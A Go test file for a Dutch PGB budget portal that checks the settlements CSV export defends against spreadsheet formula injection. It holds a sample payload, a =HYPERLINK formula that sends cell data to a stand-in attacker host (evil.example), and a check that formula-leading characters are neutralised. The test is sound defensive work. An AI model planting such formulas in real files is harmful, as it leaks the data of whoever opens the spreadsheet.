package web_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/pgbportaal/pgbportaal/internal/demo"
	"github.com/pgbportaal/pgbportaal/internal/store/storetest"
)

func demoEmail(t *testing.T, email string) demo.Account {
	t.Helper()
	for _, a := range demo.Accounts() {
		if a.Email == email {
			return a
		}
	}
	t.Fatalf("no demo account %s", email)
	return demo.Account{}
}

// TestSettlementsCSVIsSafe: a budget holder's objection reason that is a
// spreadsheet formula (the review's =HYPERLINK) reaches the verstrekker's
// CSV as text (a leading apostrophe), while negative amounts stay numbers;
// the file starts with a UTF-8 BOM, is not cached, and an empty export
// still has its header.
func TestSettlementsCSVIsSafe(t *testing.T) {
	p := newPortal(t, storetest.OpenSQLite(t))
	gm := p.client(t)
	gm.login(demoEmail(t, "medewerker@utrecht.demo"))
	resp, err := gm.http.Get(p.srv.URL + "/eindafrekeningen.csv")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if cc := resp.Header.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control %q", cc)
	}
	code, empty := gm.get("/eindafrekeningen.csv")
	if code != 200 || empty != "\uFEFFeindafrekening;toekenning;budgethouder;toegekend;betaald;nog_te_betalen;vrij_besteedbaar_gebruikt;vrij_besteedbaar_terug;over;terug_te_betalen;status;reden\n" {
		t.Errorf("no settlements: %d %q", code, empty)
	}

	zk := p.client(t)
	zk.login(demoEmail(t, "medewerker@zorgkantoor.demo"))
	if code, _, body := zk.post("/eindafrekeningen", map[string][]string{"until": {"2026-11-23"}}); code != http.StatusSeeOther {
		t.Fatalf("make: %d\n%s", code, body)
	}
	_, list := zk.get("/eindafrekeningen")
	link := regexp.MustCompile(`href="/eindafrekeningen/(\d+)"`).FindStringSubmatch(list)
	if link == nil {
		t.Fatal("no settlement")
	}
	id, _ := strconv.ParseInt(link[1], 10, 64)
	const evil = `=HYPERLINK("http://evil.example/?d="&A1;"Klik")`
	if _, err := p.svc.AnswerSettlement(context.Background(), settlementHolder(t, p, id), id, false, evil); err != nil {
		t.Fatal(err)
	}
	code, body := zk.get("/eindafrekeningen.csv")
	if code != 200 || !strings.HasPrefix(body, "\uFEFFeindafrekening;") {
		t.Fatalf("csv: %d %q", code, body)
	}
	rd := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
	rd.Comma = ';'
	rows, err := rd.ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("csv rows %v: %v", rows, err)
	}
	found := false
	for _, row := range rows[1:] {
		for i, cell := range row {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "+") {
				t.Errorf("a cell a spreadsheet runs: %q", cell)
			}
			if strings.HasPrefix(cell, "-") {
				if _, err := strconv.ParseFloat(strings.Replace(cell, ",", ".", 1), 64); err != nil || i >= 11 {
					t.Errorf("a cell starting with - that is not an amount: %q", cell)
				}
			}
		}
		if row[11] == "'"+evil {
			found = true
		}
	}
	if !found {
		t.Errorf("the objection reason is not there, neutralised:\n%s", body)
	}
}
